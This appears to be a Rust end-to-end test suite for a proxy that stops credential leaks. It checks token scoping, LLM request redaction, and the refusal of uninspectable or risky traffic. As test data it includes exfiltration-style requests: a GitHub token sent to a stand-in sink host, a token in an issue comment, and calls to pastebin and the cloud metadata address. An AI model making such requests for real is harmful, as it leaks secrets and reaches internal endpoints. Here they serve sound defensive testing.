//! Verdicts that depend on who and where: credentials at home, LLM redaction, refusals.

use portcullis_e2e::{Request, Stack, github_pat};

#[tokio::test]
async fn a_credential_passes_at_home_and_nowhere_else() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    let bearer = format!("Bearer {token}");
    let home = stack.send(Request::get("https://api.github.com/user").header("authorization", &bearer)).await;
    assert_eq!(home.status, 200, "{}", home.text());
    assert_eq!(stack.origin.last().header("authorization"), Some(bearer.clone()));
    let elsewhere = stack.send(Request::get("https://sink.example.net/user").header("authorization", &bearer)).await;
    assert_eq!(elsewhere.status, 403);
    // At home, but not in a place where credentials go.
    let comment = Request::post("https://api.github.com/repos/o/r/issues/1/comments").header("content-type", "application/json");
    let leaked = stack.send(comment.body(format!(r#"{{"body":"my token is {token}"}}"#))).await;
    assert_eq!(leaked.status, 403);
    assert_eq!(stack.origin.requests().len(), 1);
}

#[tokio::test]
async fn an_llm_request_is_redacted_the_same_way_each_time_and_stays_valid() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    let body = format!(r#"{{"model":"m","max_tokens":1,"messages":[{{"role":"user","content":"Deploy with \"{token}\" \u00e9 now"}}]}}"#);
    let mut bodies = Vec::new();
    for request in [Request::post("https://api.anthropic.com/v1/messages"), Request::post("https://api.anthropic.com/v1/messages").http2()]
    {
        let answer = stack.send(request.header("content-type", "application/json").body(body.clone())).await;
        assert_eq!(answer.status, 200, "{}", answer.text());
        let seen = stack.origin.last();
        assert_eq!(seen.header("content-length"), Some(seen.body.len().to_string()));
        let json: serde_json::Value = serde_json::from_slice(&seen.body).expect("valid JSON");
        let content = json["messages"][0]["content"].as_str().unwrap();
        assert!(content.starts_with("Deploy with \"[portcullis:github-pat-classic:") && content.ends_with("]\" é now"), "{content}");
        bodies.push(seen.body);
    }
    assert_eq!(bodies[0], bodies[1], "the placeholder is not stable");
    assert!(!stack.origin.saw(token.as_bytes()));
}

#[tokio::test]
async fn a_signed_body_is_denied_rather_than_broken() {
    let stack = Stack::start(&[]).await;
    let body = format!(r#"{{"prompt":"{}"}}"#, github_pat());
    let request = Request::post("https://api.anthropic.com/v1/messages")
        .header("content-type", "application/json")
        .header("content-md5", "1B2M2Y8AsgTpgAmY7PhCfg==");
    let answer = stack.send(request.body(body)).await;
    assert_eq!(answer.status, 403);
    let problem: serde_json::Value = serde_json::from_slice(&answer.body).unwrap();
    assert_eq!(problem["reason"], "redaction_impossible");
}

#[tokio::test]
async fn what_cannot_be_looked_into_is_denied() {
    let stack = Stack::start(&[]).await;
    let post = || Request::post("https://sink.example.net/");
    let broken = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c].to_vec();
    for (name, request) in [
        ("unknown content-encoding", post().header("content-encoding", "x-unheard-of").body("abc")),
        ("truncated gzip", post().header("content-encoding", "gzip").body(broken)),
    ] {
        let answer = stack.send(request).await;
        assert_eq!(answer.status, 403, "{name}");
        let problem: serde_json::Value = serde_json::from_slice(&answer.body).unwrap();
        assert_eq!(problem["reason"], "partial_coverage", "{name}");
    }
    assert_eq!(stack.origin.requests().len(), 0);
}

#[tokio::test]
async fn addresses_paste_sites_and_upgrades_are_refused() {
    let stack = Stack::start(&[]).await;
    for url in [
        "https://pastebin.com/",
        "http://93.184.216.34/",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost/",
        "https://sink.example.net:8443/",
    ] {
        let answer = stack.send(Request::get(url)).await;
        assert_ne!(answer.status, 200, "{url}");
    }
    let upgrade = Request::get("https://sink.example.net/")
        .header("connection", "upgrade")
        .header("upgrade", "websocket")
        .header("sec-websocket-version", "13");
    assert_eq!(stack.send(upgrade.header("sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA==")).await.status, 403);
    assert_eq!(stack.origin.requests().len(), 0);
}

#[tokio::test]
async fn grpc_clients_get_grpc_statuses() {
    let stack = Stack::start(&[]).await;
    let message = format!("\n\u{28}{}", github_pat());
    let mut body = vec![0];
    body.extend(u32::try_from(message.len()).unwrap().to_be_bytes());
    body.extend(message.as_bytes());
    let answer = stack
        .send(
            Request::post("https://sink.example.net/a.B/C")
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .body(body)
                .http2(),
        )
        .await;
    assert_eq!((answer.status, answer.header("grpc-status").as_deref()), (200, Some("7")));
    assert_eq!(stack.origin.requests().len(), 0);
}
